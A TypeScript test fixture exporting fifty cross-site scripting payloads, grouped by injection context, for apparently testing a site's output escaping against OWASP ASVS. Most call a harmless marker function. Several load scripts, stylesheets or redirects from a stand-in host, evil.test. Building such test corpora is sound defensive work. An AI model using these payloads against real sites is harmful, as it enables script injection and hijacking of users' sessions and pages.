// Fifty payloads that have run script in pages which escaped too little, by the place they aim at. Used by the page
// tests and the preview; OWASP ASVS 5.0 1.2.1 to 1.2.4.

/** Calls a function no page has: seen in a console or a DOM, it marks a payload that ran. */
const RUN = "xss(1)";

/** Payloads, each one string that a client may send as a name, an id, a URL or a detail. */
export const XSS_CORPUS: readonly string[] = [
  // A new element in text.
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<button form=f formaction="javascript:${RUN}">Approve</button>`,
  `<form action="https://evil.test"><button>Deny</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import"//evil.test/x.css";</style>`,
  `<template><script>${RUN}</script></template>`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
  // Out of an attribute.
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" autofocus onfocus=${RUN} x="`,
  `" style="position:fixed;inset:0" x="`,
  "` onmouseover=`xss(1)",
  // Out of an element whose content is not parsed as markup.
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  // A scheme, a template, an entity.
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}{{${RUN}}}#{${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
];
